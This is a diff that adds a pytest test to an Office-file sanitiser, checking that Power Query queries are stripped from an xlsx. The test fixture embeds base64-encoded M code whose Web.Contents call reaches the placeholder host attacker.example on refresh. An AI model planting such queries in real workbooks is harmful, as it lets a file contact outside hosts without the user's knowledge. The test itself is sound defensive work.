@@ -1710,3 +1710,41 @@ def test_an_instruction_with_child_elements_is_neutralised(tmp_path: Path) -> No
     document = member(dest, "word/document.xml").decode()
     assert "DDEAUTO" not in document
     assert dde_found(dest) == ""
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_power_query_queries_go_with_the_data_connections(tmp_path: Path, encoding: str) -> None:
+    """Power Query keeps its queries (M code: here a Web.Contents call to a host of the
+    file's choosing) in a customXml item whose root is DataMashup, which Excel writes
+    in UTF-16; a refresh runs them. They were kept when the data connections went."""
+    import base64
+
+    mashup = base64.b64encode(
+        b'section Section1; shared Query1 = Web.Contents("http://attacker.example/q");'
+    ).decode()
+    item = (
+        f'<?xml version="1.0" encoding="{encoding}"?>'
+        f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{mashup}</DataMashup>'
+    ).encode(encoding)
+    data = rezip(
+        build_xlsx(False),
+        {
+            "customXml/item1.xml": item,
+            "xl/_rels/workbook.xml.rels": add_rels(
+                ("rIdQ", _REL + "customXml", "../customXml/item1.xml", False)
+            ),
+        },
+    )
+    path = _write(tmp_path, "query.xlsx", data)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert "customXml/item1.xml" not in names(dest)
+    for name in names(dest):
+        assert mashup.encode() not in member(dest, name), name
+    assert_consistent(dest)
+    (found,) = [a.detail for a in result.actions if a.switch == "dynamic_data_exchange"]
+    assert found == "Power Query queries"
+    result, _ = disarm(path, tmp_path, switches("sanitise", dynamic_data_exchange="allow"))
+    assert result.outcome in ("rebuilt", "unmodified"), result
+    result, _ = disarm(path, tmp_path, switches("sanitise", dynamic_data_exchange="disallow"))
+    assert result.outcome == "blocked", result
